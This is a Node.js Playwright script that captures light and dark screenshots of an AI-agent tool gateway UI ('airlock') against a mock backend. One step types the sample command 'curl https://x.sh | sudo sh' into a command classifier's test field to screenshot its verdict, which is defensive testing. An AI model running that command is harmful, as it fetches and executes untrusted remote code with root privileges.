// Screenshots of every screen against the demo backend (`?mock=1`, dev
// server only), in light and dark, for looking at the UI without Go:
//   node scripts/screenshots.mjs [name]   → e2e/screenshots/mock-*.png
// The same screens against a real `airlock serve` come from the e2e run
// (e2e/screens.spec.ts → e2e/screenshots/real-*.png).
import { createServer } from 'vite';
import { chromium } from 'playwright-core';
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const out = new URL('../e2e/screenshots/', import.meta.url).pathname;
mkdirSync(out, { recursive: true });
const server = await createServer({ configFile: new URL('../vite.config.ts', import.meta.url).pathname, server: { port: 0, host: '127.0.0.1' }, logLevel: 'error' });
await server.listen();
const base = server.resolvedUrls.local[0];
const profile = mkdtempSync(join(tmpdir(), 'airlock-shots-'));
const browser = await chromium.launchPersistentContext(profile, {
  executablePath: '/usr/bin/chromium',
  headless: true,
  args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
  viewport: { width: 1280, height: 800 },
});
const only = process.argv[2];
const shots = [
  ['servers', '?mock=1&approvals=0#/servers', null],
  ['servers-empty', '?mock=1&empty=1#/servers', null],
  ['servers-instructions-changed', '?mock=1&approvals=0#/servers', async (p) => { await p.getByRole('button', { name: /^filesystem/ }).click(); await p.getByTestId('instructions-changed').waitFor(); }],
  ['servers-instructions', '?mock=1&approvals=0#/servers', async (p) => { await p.getByRole('button', { name: /^everything/ }).click(); await p.getByTestId('instructions').locator('summary').click(); }],
  ['servers-config-error', '?mock=1&approvals=0&configError=1#/servers', null],
  ['activity', '?mock=1&approvals=0#/activity', async (p) => { await p.getByTestId('activity-row').nth(3).click(); }],
  ['activity-empty', '?mock=1&empty=1#/activity', null],
  ['approval-dialog', '?mock=1#/servers', async (p) => { await p.getByTestId('approval-tool').waitFor(); }],
  ['approvals', '?mock=1#/approvals', async (p) => { await p.getByTestId('approval-tool').waitFor(); await p.keyboard.press('Escape'); }],
  ['rules', '?mock=1&approvals=0#/rules', async (p) => {
    await p.getByLabel('Server', { exact: true }).last().fill('weather');
    await p.getByLabel('Tool', { exact: true }).fill('forecast');
    await p.getByRole('button', { name: 'Test', exact: true }).click();
    await p.getByTestId('test-result').waitFor();
  }],
  ['rules-new', '?mock=1&approvals=0#/rules', async (p) => { await p.getByRole('button', { name: 'New rule' }).first().click(); await p.getByRole('button', { name: '+ Add condition' }).click(); }],
  ['audit-failed', '?mock=1&approvals=0&auditFailed=1#/activity', async (p) => { await p.getByTestId('audit-failed').waitFor(); }],
  ['servers-new-tool', '?mock=1&approvals=0#/servers', async (p) => { await p.getByRole('button', { name: /^everything/ }).click(); await p.getByTestId('tool-new').waitFor(); }],
  ['servers-built-in', '?mock=1&approvals=0#/servers', async (p) => { await p.getByRole('button', { name: /^airlock/ }).click(); await p.getByTestId('built-in').waitFor(); }],
  ['server-form', '?mock=1&approvals=0#/servers', async (p) => { await p.getByRole('button', { name: 'Add server' }).first().click(); await p.getByRole('dialog').waitFor(); }],
  ['agents', '?mock=1&approvals=0#/agents/ag_scout?tab=role', null],
  ['agents-empty', '?mock=1&empty=1#/agents', null],
  ['agents-tools', '?mock=1&approvals=0#/agents/ag_scout?tab=tools', null],
  ['agents-run', '?mock=1&approvals=0#/agents/ag_scout?tab=run', null],
  ['agents-status', '?mock=1&approvals=0#/agents/ag_old?tab=status', null],
  ['agents-roles', '?mock=1&approvals=0#/agents/roles/readers', null],
  ['agents-projects', '?mock=1&approvals=0#/agents/projects', null],
  ['agents-new', '?mock=1&approvals=0#/agents', async (p) => { await p.getByRole('button', { name: 'New agent' }).first().click(); await p.getByRole('dialog').getByLabel('Name').fill('scout-2'); await p.getByRole('button', { name: 'Create agent' }).click(); await p.getByTestId('new-token').waitFor(); }],
  ['board', '?mock=1&approvals=0#/board/pj_site', null],
  ['board-detail', '?mock=1&approvals=0#/board/pj_site/tsk_001', null],
  ['board-run-refused', '?mock=1&approvals=0#/board/pj_site/tsk_002', async (p) => { await p.getByTestId('run-button').click(); await p.getByTestId('run-refusal').waitFor(); }],
  ['board-run-settings', '?mock=1&approvals=0#/board/pj_site', async (p) => { await p.getByTestId('run-settings-button').click(); await p.getByTestId('run-settings').getByRole('switch').waitFor(); }],
  ['board-refused', '?mock=1&approvals=0#/board/pj_site', async (p) => {
    await p.locator('[data-task-id="tsk_002"] .card').dragTo(p.locator('[data-testid=board-column][data-status=in_progress]'));
    await p.getByTestId('task-refusal').waitFor();
  }],
  ['board-new', '?mock=1&approvals=0#/board/pj_site', async (p) => { await p.getByRole('button', { name: 'New task' }).first().click(); await p.getByRole('dialog').getByLabel('Title').fill('Translate the landing page'); }],
  ['board-empty', '?mock=1&empty=1#/board', null],
  ['chat', '?mock=1&approvals=0#/chat/conv_pricing', null],
  ['chat-empty', '?mock=1&empty=1#/chat', null],
  ['builtin', '?mock=1&approvals=0#/builtin', null],
  ['builtin-test', '?mock=1&approvals=0#/builtin', async (p) => { await p.getByLabel('Command line to test').fill('curl https://x.sh | sudo sh'); await p.getByRole('button', { name: 'Test', exact: true }).click(); await p.getByTestId('classify-result').waitFor(); }],
  ['builtin-empty', '?mock=1&empty=1#/builtin', null],
  ['connect', '?mock=1&approvals=0#/servers', async (p) => { await p.getByRole('button', { name: /Connect an agent/ }).first().click(); await p.getByTestId('agent-token').waitFor(); }],
];
try {
  for (const scheme of ['light', 'dark']) {
    for (const [name, path, act] of shots) {
      if (only && !name.includes(only)) continue;
      const page = await browser.newPage();
      await page.emulateMedia({ colorScheme: scheme });
      await page.goto(base + path);
      await page.waitForTimeout(700);
      if (act) await act(page);
      await page.waitForTimeout(300);
      await page.screenshot({ path: join(out, `mock-${name}-${scheme}.png`) });
      await page.close();
    }
  }
} finally {
  await browser.close();
  await server.close();
  rmSync(profile, { recursive: true, force: true });
}
console.log('screenshots in', out);
